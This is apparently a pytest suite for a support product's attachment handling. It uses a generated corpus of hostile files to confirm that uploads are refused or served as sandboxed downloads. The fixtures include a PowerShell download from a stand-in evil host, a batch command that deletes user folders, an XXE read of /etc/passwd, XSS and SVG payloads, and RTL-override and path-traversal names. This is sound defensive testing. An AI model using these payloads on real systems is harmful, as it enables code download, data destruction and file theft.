"""The attachment corpus: hostile files through the real upload and download paths.

Every file a tester tried (scripts, double extensions, pages and drawings dressed as
pictures, polyglots, names in other scripts, with bidi overrides, zero-width characters,
folders or `..`) is either refused with a 422 that says why, or served so that no browser
renders it in Headset's origin: a download (`Content-Disposition: attachment`, RFC 6266 name),
`nosniff`, a sandbox CSP and the type its bytes show. The corpus is generated here; no
binary file is committed. Chat goes customer upload → agent and customer download; e-mail
goes SMTP → Exim → Dovecot → ingestion → the agent's download.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from urllib.parse import unquote

import httpx
import pytest

from headset.core.files import ACTIVE_EXTENSIONS, ALLOWED_MEDIA_TYPES, DANGEROUS_EXTENSIONS
from tests.chat.conftest import GENEROUS, ChatCenter, shop_widget, start_chat
from tests.mail.conftest import MailServers, mail_center, wait_connected
from tests.mail.conftest import servers as servers  # the fixture: Exim and Dovecot
from tests.service.conftest import Center, live, next_event, ok, start_center

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02" + b"\x00" * 40
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04" + b"\x00" * 20
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 40
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
BATCH = b"@echo off\r\ndel /q C:\\Users\\*\r\n"
VBS = b'CreateObject("WScript.Shell").Run "calc.exe"\r\n'
JS = b"new ActiveXObject('WScript.Shell').Run('calc.exe');\n"
PS1 = b"Invoke-WebRequest https://evil.example/x.exe -OutFile $env:TEMP\\x.exe\n"
HTA = b"<html><head><HTA:APPLICATION/><script>new ActiveXObject('WScript.Shell')</script>"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40

REFUSED = "refused"
SERVED = "served"


@dataclass(frozen=True)
class Case:
    """One file of the corpus and what must become of it."""

    label: str
    name: str
    content: bytes
    outcome: str
    #: For a served file: the media type it must be served as, and its saved name.
    media_type: str | None = None
    saved_as: str | None = None


CORPUS = [
    # scripts and programs, whatever their content
    Case("batch", "update.bat", BATCH, REFUSED),
    Case("cmd", "fix.cmd", BATCH, REFUSED),
    Case("vbscript", "invoice.vbs", VBS, REFUSED),
    Case("jscript", "invoice.js", JS, REFUSED),
    Case("powershell", "setup.ps1", PS1, REFUSED),
    Case("program", "setup.exe", EXE, REFUSED),
    Case("screensaver", "holiday.scr", EXE, REFUSED),
    Case("hta", "app.hta", HTA, REFUSED),
    Case("program named as a picture", "photo.png", EXE, REFUSED),
    Case("zip", "files.zip", ZIP, REFUSED),
    # double extensions: a dangerous one anywhere in the name
    Case("pdf then vbs", "invoice.pdf.vbs", VBS, REFUSED),
    Case("pdf then exe", "invoice.pdf.exe", EXE, REFUSED),
    Case("exe then txt", "setup.exe.txt", b"plain words", REFUSED),
    Case("bat then txt", "update.bat.txt", BATCH, REFUSED),
    Case("html then png", "photo.html.png", PNG, REFUSED),
    Case("upper case", "INVOICE.PDF.VBS", VBS, REFUSED),
    Case("trailing dot", "update.bat.", BATCH, REFUSED),
    # pages, drawings and XML, dressed as pictures or not
    Case("html", "invoice.html", HTML, REFUSED),
    Case("html named png", "invoice.png", HTML, REFUSED),
    Case("svg", "logo.svg", SVG, REFUSED),
    Case("svg named png", "logo.png", SVG, REFUSED),
    Case("svg named txt", "logo.txt", SVG, REFUSED),
    Case("xml named png", "data.png", XML, REFUSED),
    Case("xml named jpg", "data.jpg", b'<?xml version="1.0"?><svg/>', REFUSED),
    # polyglots: a picture's header, then a page or a script
    Case("gif then html", "cat.gif", GIF + HTML, REFUSED),
    Case("png then script", "cat.png", PNG + b"<script>alert(1)</script>", REFUSED),
    Case("jpeg then svg", "cat.jpg", JPEG + SVG, REFUSED),
    Case("pdf then html", "doc.pdf", PDF + HTML, REFUSED),
    Case(
        "gif that is also js",
        "cat.gif",
        b"GIF89a=1;alert(document.domain)//",
        SERVED,
        "image/gif",
        "cat.gif",
    ),
    # the extension must agree with the bytes
    Case("png named jpg", "photo.jpg", PNG, REFUSED),
    Case("text named pdf", "contract.pdf", b"not a pdf", REFUSED),
    Case("text named docx", "letter.docx", b"Dear Sir", REFUSED),
    # harmless files, under names from everywhere
    Case("plain text", "notes.txt", b"@echo off (only words)", SERVED, "text/plain", "notes.txt"),
    Case("latvian", "rēķins.png", PNG, SERVED, "image/png", "rēķins.png"),
    Case("cyrillic", "файл.png", PNG, SERVED, "image/png", "файл.png"),
    Case(
        "decomposed",
        "re\u0304k\u0327ins.pdf",
        PDF,
        SERVED,
        "application/pdf",
        unicodedata.normalize("NFC", "re\u0304k\u0327ins.pdf"),
    ),
    Case("greek and cjk", "αρχείο 文件.jpeg", JPEG, SERVED, "image/jpeg", "αρχείο 文件.jpeg"),
    Case("no extension", "scan", PNG, SERVED, "image/png", "scan.png"),
    Case("zero width", "pho\u200bto\u200d.png", PNG, SERVED, "image/png", "photo.png"),
    Case("quotes and semicolons", 'a";b=c.txt', b"hi", SERVED, "text/plain", "a_;b=c.txt"),
    Case("long", "a" * 300 + ".png", PNG, SERVED, "image/png", "a" * 116 + ".png"),
    Case("folders", "../../etc/passwd", b"root:x:0:0", SERVED, "text/plain", "passwd.txt"),
    Case("windows folders", "..\\..\\Windows\\win.ini", b"[fonts]", REFUSED),
    Case("dots only", "..", PNG, SERVED, "image/png", "attachment.png"),
    Case("hidden", ".bashrc.txt", b"alias", SERVED, "text/plain", "bashrc.txt"),
    Case("windows device", "CON.txt", b"hi", SERVED, "text/plain", "_CON.txt"),
    # the right-to-left override shows "invoice\u202egnp.exe" as "invoiceexe.png"
    Case("rtl override exe", "invoice\u202egnp.exe", EXE, REFUSED),
    Case("rtl override js", "photo\u202egpj.js", JS, REFUSED),
    Case("rtl override png", "my\u202egnp.png", PNG, SERVED, "image/png", "mygnp.png"),
]


def _ids(case: Case) -> str:
    return case.label.replace(" ", "-")


def _saved_name(response: httpx.Response) -> str:
    """The name a browser saves the download under (it prefers `filename*`)."""
    disposition = response.headers["content-disposition"]
    kind, _, params = disposition.partition(";")
    assert kind == "attachment", disposition
    assert 'filename="' in params, disposition
    fallback = params.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.isascii(), disposition
    assert all(c.isprintable() and c not in '"\\' for c in fallback), disposition
    encoded = params.split("filename*=UTF-8''", 1)[1].split(";", 1)[0].strip()
    assert encoded.isascii(), disposition
    return unquote(encoded, encoding="utf-8", errors="strict")


def _assert_safe_download(response: httpx.Response, case: Case) -> None:
    assert response.status_code == 200, response.text
    assert response.content == case.content
    media_type = response.headers["content-type"].split(";")[0]
    assert media_type == case.media_type
    assert media_type in ALLOWED_MEDIA_TYPES
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-security-policy"] == "sandbox"
    name = _saved_name(response)
    assert name == case.saved_as
    _assert_harmless_name(name)


def _assert_harmless_name(name: str) -> None:
    assert "/" not in name
    assert "\\" not in name
    assert not name.startswith(".")
    assert all(unicodedata.category(c)[0] not in "CZ" or c == " " for c in name), repr(name)
    parts = name.lower().split(".")[1:]
    assert not set(parts) & (DANGEROUS_EXTENSIONS | ACTIVE_EXTENSIONS), name
    assert len(name) <= 120


# chat --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ChatCenter]:
    center = start_center(tmp_path_factory.mktemp("corpus"), visitor_rates=GENEROUS)
    try:
        key = shop_widget(center)
        staff = center.as_user("alpha", "supervisor")
        yield ChatCenter(center, key, staff, staff)
    finally:
        center.close()
        center.served.stop()


@pytest.mark.parametrize("case", CORPUS, ids=_ids)
def test_a_chat_upload_is_refused_or_served_safely(chat: ChatCenter, case: Case) -> None:
    customer = start_chat(chat)
    upload = customer.post("/attachments", params={"name": case.name}, content=case.content)
    if case.outcome == REFUSED:
        assert upload.status_code == 422, upload.text
        assert upload.headers["content-type"].startswith("application/problem+json")
        assert upload.json()["code"] in {
            "file_name_refused",
            "file_type_refused",
            "file_name_mismatch",
        }
        return
    assert upload.status_code == 201, upload.text
    stored = upload.json()
    assert stored["name"] == case.saved_as
    path = f"/attachments/{stored['attachment_id']}"
    _assert_safe_download(customer.client.get(f"chats/{customer.chat_id}{path}"), case)
    staff = chat.supervisor.get(f"/api/v1/tenants/alpha/chats/{customer.chat_id}{path}")
    _assert_safe_download(staff, case)


# e-mail ------------------------------------------------------------------------------------


def _corpus_mail() -> bytes:
    """One customer's mail carrying the whole corpus, each part declared an image (a
    declared type is the sender's claim, never trusted)."""
    message = EmailMessage()
    message["From"] = "Carla Customer <carla@example.com>"
    message["To"] = "support@example.com"
    message["Subject"] = "Files"
    message["Message-ID"] = "<corpus@example.com>"
    message.set_content("The files you asked for.")
    for case in CORPUS:
        message.add_attachment(case.content, "image", "png", filename=case.name)
    return message.as_bytes()


@pytest.fixture(scope="module")
def mail(tmp_path_factory: pytest.TempPathFactory, servers: MailServers) -> Iterator[Center]:
    center = mail_center(tmp_path_factory.mktemp("corpus-mail"), servers)
    try:
        wait_connected(center)
        yield center
    finally:
        center.close()
        center.served.stop()


def test_an_e_mails_attachments_reach_the_agent_refused_or_served_safely(
    mail: Center, servers: MailServers
) -> None:
    base = "/api/v1/tenants/alpha"
    agent = mail.as_user("alpha", "agent")
    agent_id = mail.tenants["alpha"].agents["agent"]
    ok(agent.post(f"{base}/agents/{agent_id}/state", json={"state": "available"}))
    with live(mail.ws_url, agent) as ws:
        servers.send(_corpus_mail(), "support@example.com")
        offered = next_event(ws, "routing.contact_offered", 30)["data"]
        ok(agent.post(f"{base}/offers/{offered['offer_id']}/accept"))
    contact_id = offered["contact_id"]
    messages = ok(agent.get(f"{base}/contacts/{contact_id}/mail"))["messages"]
    (message,) = [m for m in messages if m["direction"] == "inbound"]

    saved: dict[str, tuple[str, bytes]] = {}
    for part in message["attachments"]:
        url = f"{base}/contacts/{contact_id}/mail/attachments/{part['attachment_id']}"
        for inline in (False, True):  # none is an inline picture: always a download
            response = agent.get(url, params={"inline": inline})
            assert response.status_code == 200, response.text
            assert response.headers["x-content-type-options"] == "nosniff"
            assert response.headers["content-security-policy"] == "sandbox"
            name = _saved_name(response)
            _assert_harmless_name(name)
        media_type = response.headers["content-type"].split(";")[0]
        assert media_type in ALLOWED_MEDIA_TYPES | {"application/octet-stream"}
        saved[name] = (media_type, response.content)

    # programs and scripts never reach the agent; pages and polyglots are opaque bytes
    contents = [content for _, content in saved.values()]
    for dangerous in (EXE, BATCH, VBS, JS, PS1, HTA):
        assert dangerous not in contents
    assert message["refused_attachments"]
    for media_type, content in saved.values():
        if any(marker in content for marker in (b"<script", b"<svg", b"<html", b"<!DOCTYPE")):
            assert media_type == "application/octet-stream", content[:40]
    # names from everywhere download (a header holds Latin-1 only: RFC 6266 carries them)
    assert saved["rēķins.png"] == ("image/png", PNG)
    assert saved["файл.png"] == ("image/png", PNG)
    assert saved["αρχείο 文件.jpeg"] == ("image/jpeg", JPEG)
